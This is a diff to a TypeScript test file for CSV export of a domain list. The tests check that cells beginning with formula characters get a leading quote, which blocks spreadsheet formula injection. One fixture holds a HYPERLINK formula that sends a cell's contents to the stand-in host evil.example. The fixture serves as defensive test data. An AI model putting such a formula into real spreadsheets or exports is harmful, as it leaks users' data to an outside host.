@@ -38,6 +38,25 @@ describe('CSV', () => {
     expect(parseEntriesCsv(csv)).toEqual({ entries: byPattern(tricky), errors: [] });
   });
 
+  it('writes free text that a spreadsheet would run as a formula with a leading quote, and reads it back as it was', () => {
+    const risky = [
+      entry({ pattern: 'a.example', category: 'satire', severity: 0.5, entity: '@Kanal', note: '=HYPERLINK("https://evil.example/?d="&A1,"Quelle")' }),
+      entry({ pattern: 'b.example', category: 'satire', severity: 0.5, entity: '+49 Netzwerk', note: "'=schon mit Anführungszeichen" }),
+      entry({ pattern: 'c.example', category: 'satire', severity: 0.5, entity: 'Ein - Bindestrich', note: "-1+1 und ein 'Zitat'" }),
+    ];
+    const csv = formatEntriesCsv(risky);
+    const rows = csv.split('\n');
+    expect(rows[1]).toBe(`a.example,domain,satire,0.5,'@Kanal,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Quelle"")",`);
+    expect(rows[2]).toBe(`b.example,domain,satire,0.5,'+49 Netzwerk,''=schon mit Anführungszeichen,`);
+    expect(rows[3]).toBe(`c.example,domain,satire,0.5,Ein - Bindestrich,'-1+1 und ein 'Zitat',`);
+    expect(parseEntriesCsv(csv)).toEqual({ entries: byPattern(risky), errors: [] });
+  });
+
+  it('leaves a leading quote alone when no formula character follows it', () => {
+    const csv = 'pattern,category,severity,note\na.example,satire,0.5,\'nur zitiert\'\nb.example,satire,0.5,\'=als Text gemeint\n';
+    expect(parseEntriesCsv(csv).entries.map((e) => e.note)).toEqual(["'nur zitiert'", '=als Text gemeint']);
+  });
+
   it('writes rows sorted by pattern, with a trailing line break', () => {
     const csv = formatEntriesCsv([tricky[2]!, tricky[0]!]);
     expect(csv).toBe(
@@ -307,7 +326,7 @@ describe('round-trip property', () => {
     fc.tuple(host, fc.stringMatching(/^[a-z0-9_-]{1,12}$/)).map(([h, p]) => `${h}/${p}`),
     label.map((l) => `${l}.*`),
   );
-  const text = (max: number) => fc.option(fc.string({ unit: fc.constantFrom('a', 'Ä', ' ', ',', ';', '"', "'", '\n', '\r', '\t', '🦊', 'ß', '=', '#'), maxLength: max }), { nil: null });
+  const text = (max: number) => fc.option(fc.string({ unit: fc.constantFrom('a', 'Ä', ' ', ',', ';', '"', "'", '\n', '\r', '\t', '🦊', 'ß', '=', '#', '+', '-', '@'), maxLength: max }), { nil: null });
   const rawEntry = fc.record({
     pattern,
     category: fc.constantFrom(...LIST_CATEGORIES),
